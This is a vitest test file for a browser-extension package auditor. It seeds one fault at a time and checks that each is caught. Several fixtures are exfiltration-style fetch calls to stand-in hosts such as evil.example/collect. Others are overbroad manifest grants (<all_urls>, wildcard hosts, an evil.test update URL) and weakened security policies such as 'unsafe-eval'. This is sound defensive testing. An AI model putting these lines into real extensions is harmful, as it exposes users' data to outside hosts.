/**
 * A check that finds nothing proves nothing: each one gets a package with exactly one thing wrong in its grants or its
 * addresses.
 */
import { describe, expect, it } from 'vitest';
import { command, manifestWith, policy, problemsWith, resources, script } from './support/good-package.ts';

describe('a host that is on no list is found', () => {
  it.each([
    ['in a script', { 'background.js': 'fetch("https://evil.example/collect")' }],
    ['under another scheme', { 'background.js': 'open("wss://api.example/")' }],
    ['as a listed one on an open line', { 'background.js': 'open("http://api.example/")' }],
    ['as a listed one on another port', { 'background.js': 'open("https://api.example:444/")' }],
    ['as the beginning of a listed one', { 'background.js': 'open("https://api.example.evil.test/")' }],
    ['in a template', { 'background.js': `fetch(\`https://evil.test/\${path}\`)` }],
    ['put together', { 'background.js': 'fetch("http://" + host)' }],
    ['by its name alone', { 'background.js': 'const host = "collect.evil.com"' }],
    ['in a file of settings', { 'managed_schema.json': '{ "default": "https://evil.test/" }' }],
    ['of the sandbox', { 'background.js': 'fetch("http://wisepay.localhost:4600/api")' }],
  ])('%s', (_, change) => {
    expect(problemsWith(change)).not.toEqual([]);
  });
});

describe('a manifest is found that has', () => {
  it.each<[string, object]>([
    ['another permission', { permissions: ['storage', 'tabs'] }],
    ['a permission less than documented', { permissions: [] }],
    ['an optional permission', { optional_permissions: ['history'] }],
    ['a host', { host_permissions: ['https://*/*'] }],
    ['an optional host', { optional_host_permissions: ['https://*/*'] }],
    ['another popup', { action: { default_popup: 'other.html' } }],
    [
      'a toolbar button that does more',
      { action: { default_popup: 'popup.html', default_state: 'disabled' } },
    ],
    ['a content script on another site', { content_scripts: [{ ...script, matches: ['<all_urls>'] }] }],
    [
      'a second content script',
      { content_scripts: [script, { ...script, matches: ['https://evil.test/*'] }] },
    ],
    ['a content script in all frames', { content_scripts: [{ ...script, all_frames: true }] }],
    ['a content script in the page’s own world', { content_scripts: [{ ...script, world: 'MAIN' }] }],
    [
      'another file for pages',
      { web_accessible_resources: [{ ...resources, resources: ['panel.html', '*'] }] },
    ],
    ['a file for every page', { web_accessible_resources: [{ ...resources, matches: ['<all_urls>'] }] }],
    ['a file for another extension', { web_accessible_resources: [{ ...resources, extension_ids: ['*'] }] }],
    ['a lasting address', { web_accessible_resources: [{ ...resources, use_dynamic_url: false }] }],
    ['other senders', { externally_connectable: { matches: ['https://evil.test/*'] } }],
    ['another command', { commands: { 'open-pod': command, pay: { suggested_key: 'Ctrl+P' } } }],
    ['a command less than documented', { commands: {} }],
    ['a key that works outside the browser', { commands: { 'open-pod': { ...command, global: true } } }],
    ['rules for requests', { declarative_net_request: { rule_resources: [] } }],
    ['a page in place of the browser’s', { chrome_url_overrides: { newtab: 'panel.html' } }],
    ['an update address', { update_url: 'https://evil.test/' }],
    ['no policy', { content_security_policy: undefined }],
    [
      'a policy for other pages too',
      { content_security_policy: { extension_pages: policy, sandbox: 'sandbox' } },
    ],
  ])('%s', (_, change) => {
    expect(problemsWith(manifestWith(change))).not.toEqual([]);
  });
});

describe('a policy is found that', () => {
  it.each([
    ['allows text as code', policy.replace("script-src 'self'", "script-src 'self' 'unsafe-eval'")],
    ['allows styles in the page', policy.replace("style-src 'self'", "style-src 'self' 'unsafe-inline'")],
    ['allows connections on an open line', policy.replace('https:;', 'https: http:;')],
    ['lets anybody frame', policy.replace('frame-ancestors https://psa.example', 'frame-ancestors *')],
    ['leaves frames to everybody', policy.replace('frame-ancestors https://psa.example; ', '')],
    ['allows pictures', `${policy}; img-src https:`],
    ['allows trusted types', policy.replace("; trusted-types 'none'", '')],
    ['begins with more than nothing', policy.replace("default-src 'none'", "default-src 'self'")],
  ])('%s', (_, extension_pages) => {
    expect(problemsWith(manifestWith({ content_security_policy: { extension_pages } }))).not.toEqual([]);
  });
});
